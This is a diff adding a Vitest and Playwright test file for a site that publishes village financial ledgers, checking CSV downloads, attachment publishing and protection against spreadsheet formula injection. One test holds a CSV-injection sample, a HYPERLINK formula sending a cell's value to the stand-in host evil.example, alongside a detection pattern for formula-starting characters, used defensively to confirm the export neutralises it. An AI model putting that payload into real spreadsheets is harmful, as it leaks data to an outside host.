@@ -1,0 +1,114 @@
+import { readFileSync } from 'node:fs';
+import path from 'node:path';
+import Papa from 'papaparse';
+import { describe, expect, inject } from 'vitest';
+import type { Page } from 'playwright-core';
+import { filesOf } from './html.ts';
+import { hostilePeriod, hostileVillage } from './hostile-tree.ts';
+import { demoData } from './trees.ts';
+import { it } from './visit.ts';
+
+/** What the page's link to its table gives. */
+async function downloaded(page: Page): Promise<string> {
+	const [download] = await Promise.all([
+		page.waitForEvent('download'),
+		page.getByRole('link', { name: '下载表格（CSV）' }).click(),
+	]);
+	return readFileSync(await download.path(), 'utf8');
+}
+
+function cellsOf(csv: string): Record<string, string>[] {
+	return Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true })
+		.data;
+}
+
+/** The rows of the page's ledger: voucher, summary, income, expense, counterparty. */
+function rowsShown(page: Page): Promise<string[][]> {
+	return page
+		.locator('table')
+		.filter({ has: page.locator('a.cite') })
+		.locator('tbody tr')
+		.evaluateAll((rows) =>
+			rows.map((row) => {
+				const text = (selector: string) =>
+					row.querySelector(selector)?.firstChild?.nodeValue?.trim() ?? '';
+				return [
+					text('a.cite'),
+					text('th'),
+					text('.income'),
+					text('.expense'),
+					text('td:nth-of-type(5)'),
+				];
+			}),
+		);
+}
+
+const plainAmount = (amount: string) => amount.replaceAll(',', '');
+
+describe('the table of a ledger', () => {
+	it.for([
+		['a month', 'villages/990101001200/ledger/2025-03/'],
+		['a quarter', 'villages/990102001202/ledger/2025-Q1/'],
+		['a month that nobody registered', 'villages/990104001201/ledger/2024-04/'],
+	] as const)(
+		'of %s has the mark that Excel needs, and the page’s rows',
+		async ([, below], { visit }) => {
+			const page = await visit(inject('demo').address + below);
+			const csv = await downloaded(page);
+			expect(csv.startsWith('\uFEFF')).toBe(true);
+			const rows = cellsOf(csv).map((row) => [
+				row['凭证号'],
+				row['摘要'],
+				row['收入（元）'],
+				row['支出（元）'],
+				row['对方'],
+			]);
+			expect(rows.length).toBeGreaterThan(5);
+			const shown = await rowsShown(page);
+			expect(shown.map((row) => row.map(plainAmount))).toEqual(rows);
+		},
+	);
+
+	it('runs no formula in Excel or WPS, whatever a cell says', async ({ visit }) => {
+		const page = await visit(
+			`${inject('hostile').address}villages/${hostileVillage}/ledger/${hostilePeriod}/`,
+		);
+		const rows = cellsOf(await downloaded(page));
+		expect(rows.length).toBeGreaterThan(400);
+		const runs = rows
+			.flatMap((row) => Object.values(row))
+			.filter((cell) => /^[\s\uFEFF]*[=+@＝＋＠|]|^[\s\uFEFF]*[-－](?!\d+(\.\d+)?$)/.test(cell));
+		expect(runs).toEqual([]);
+		const summaries = new Set(rows.map((row) => row['摘要']));
+		expect(summaries).toContain(`'=HYPERLINK("https://evil.example/?"&A1,"看凭证")`);
+		const shown = await rowsShown(page);
+		expect(
+			rows.map((row) => row['摘要']?.replace(/^'(?=[\s\uFEFF]*[=+\-@＝＋－＠|])/, '').trim()),
+		).toEqual(shown.map(([, summary]) => summary));
+	});
+});
+
+describe('attachments', () => {
+	it('are the bytes that the office committed, and nothing that no row lists is published', () => {
+		const { folder } = inject('demo');
+		const published = filesOf(path.join(folder, 'attachments'));
+		expect(published.length).toBeGreaterThan(20);
+		for (const file of published) {
+			const [village = '', name = ''] = file.split('/');
+			const committed = readFileSync(path.join(demoData, 'villages', village, 'attachments', name));
+			expect([
+				file,
+				readFileSync(path.join(folder, 'attachments', file)).equals(committed),
+			]).toEqual([file, true]);
+		}
+	});
+
+	it('can be downloaded from their page', async ({ visit }) => {
+		const page = await visit(`${inject('demo').address}villages/990101001200/finance/CW2025-10/`);
+		const [download] = await Promise.all([
+			page.waitForEvent('download'),
+			page.getByRole('link', { name: /^2024-juesuan\.csv/ }).click(),
+		]);
+		expect(download.suggestedFilename()).toBe('2024-juesuan.csv');
+	});
+});
